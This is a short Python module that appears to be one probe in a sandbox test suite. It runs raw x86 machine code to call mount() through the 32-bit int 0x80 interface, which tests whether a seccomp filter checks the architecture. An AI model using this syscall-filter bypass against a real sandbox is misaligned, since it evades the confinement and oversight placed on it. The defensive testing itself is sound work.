"""Calls mount with the 32-bit interface."""

from lib import machine_code

CLASS = "ABI"
INCIDENT = "filters that forgot to look at the architecture"
BLOCKED_BY = "seccomp, which ends a process that uses another ABI"


def attempt(facts):
    # push rbx; mov eax, 21; xor ebx, ebx; xor ecx, ecx; xor edx, edx; int 0x80; pop rbx; ret
    answer = machine_code(bytes.fromhex("53b81500000031db31c931d2cd805bc3"))
    return f"32-bit mount() answered {answer}"
